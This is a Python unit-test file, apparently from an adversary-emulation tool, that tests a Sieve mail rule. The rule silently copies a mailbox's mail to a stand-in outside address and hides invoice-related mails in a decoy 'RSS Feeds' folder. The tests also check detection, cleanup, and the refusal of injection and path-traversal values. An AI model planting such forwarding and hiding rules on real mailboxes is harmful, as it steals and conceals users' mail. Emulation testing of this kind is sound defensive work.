"""A rule that also hides mails: what it says, how it is told and ended, and that nothing stays hidden."""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from pydantic import ValidationError

from cyder.contracts.node import Result
from cyder.contracts.probe import Vantage
from cyder.roles.mail.actions.forward import MailForward
from cyder.roles.mail.mail_probes import Hides
from tests.unit.roles.posts import FORWARD, HIDE, MARKER, scene, sent, served, text_of
from tests.unit.roles.talk import deciding

PROBER = Vantage("prober", "172.20.0.99")
ASKED = Hides(target="mail", address="kondo-m@city.example", mark="LAB-1", word="請求", folder="RSS Feeds")
LISTED = ("doveadm", "mailbox", "list")


def rule_of(action: MailForward) -> str:
    """Return what is put in as the rule."""
    place, asked = scene(action)
    action.run(place)
    return next(word for _, argv in asked for word in argv if word.startswith("PUTSCRIPT")).replace('\\"', '"')


def test_without_a_word_the_rule_only_sends_mails_on() -> None:
    assert rule_of(FORWARD).endswith(f'require ["copy"]; redirect :copy "archive@cdn-stat.example"; /* {MARKER} */"')


def test_mails_with_the_word_are_sent_on_and_filed_and_the_first_one_has_it() -> None:
    assert 'redirect :copy "archive@cdn-stat.example"; if header :contains "subject" "請求"' in rule_of(HIDE)
    assert 'fileinto :create "RSS Feeds"' in rule_of(HIDE)
    (argv,) = sent(HIDE)[1]
    assert "Subject: =?utf-8?b?6KuL5rGC44Gu56K66KqN?=" in text_of(argv)


def test_the_truth_names_the_second_technique_only_where_mails_are_hidden() -> None:
    assert HIDE.truth(scene(HIDE)[0], []).techniques == ("T1564.008",)
    assert FORWARD.truth(scene(FORWARD)[0], []).techniques == ()


def test_a_rule_that_sends_nothing_on_but_still_hides_is_not_removed() -> None:
    asked = {action: action.containment(scene(action)[0])[0].deny for action in (FORWARD, HIDE)}
    assert [[type(check.probe).__name__ for check in deny] for deny in asked.values()] == [
        ["Forwards", "LogsIn"],
        ["Forwards", "Hides", "LogsIn"],
    ]


@pytest.mark.parametrize(("there", "said"), [("LAB-1 7", "is put"), ("", "is not put")])
def test_a_mail_is_hidden_if_it_lies_in_the_folder_and_it_is_taken_away_again(there: str, said: str) -> None:
    lan, asked = deciding(lambda argv: Result(0, there if argv[:2] == ("doveadm", "search") else ""))
    answer = ASKED.check(lan, PROBER)
    assert answer.passed is bool(there)
    assert answer.said == f"mail about 請求 to kondo-m@city.example {said} into RSS Feeds"
    looked = next(argv for _, argv in asked if argv[:2] == ("doveadm", "search"))
    assert looked[4:6] == ("mailbox", "RSS Feeds")
    assert asked[-1][1][:2] == ("doveadm", "expunge")


def test_what_was_filed_goes_to_the_inbox_before_the_folder_is_deleted() -> None:
    place, asked = scene(HIDE)
    assert HIDE.cleanup(place).verified
    told = [argv[1:3] for _, argv in asked if argv[0] == "doveadm" and argv[1] in ("move", "mailbox")]
    assert told == [("move", "-u"), ("mailbox", "delete"), ("mailbox", "list")]


@pytest.mark.parametrize("listed", [Result(0, "INBOX\nRSS Feeds\n"), Result(75, "")])
def test_a_folder_that_is_left_or_cannot_be_looked_for_is_not_clean(listed: Result) -> None:
    def decide(argv: Sequence[str]) -> Result:
        return listed if tuple(argv[:3]) == LISTED else served(argv)

    answer = HIDE.cleanup(scene(HIDE, decide)[0])
    assert (answer.verified, answer.said[:31]) == (False, "the folder RSS Feeds is left; no"[:31])


def test_without_a_word_no_folder_is_touched() -> None:
    place, asked = scene(FORWARD)
    FORWARD.cleanup(place)
    assert not [argv for _, argv in asked if argv[:2] == ("doveadm", "mailbox") or argv[1:2] == ("move",)]


@pytest.mark.parametrize(
    "settings", [{"hide": 'a" {'}, {"hide": ""}, {"hide": "請" * 13}, {"hide": "請求", "folder": "a/../b"}]
)
def test_a_word_or_folder_that_would_break_the_rule_is_refused(settings: dict[str, str]) -> None:
    with pytest.raises(ValidationError):
        MailForward.model_validate({**FORWARD.model_dump(), **settings})
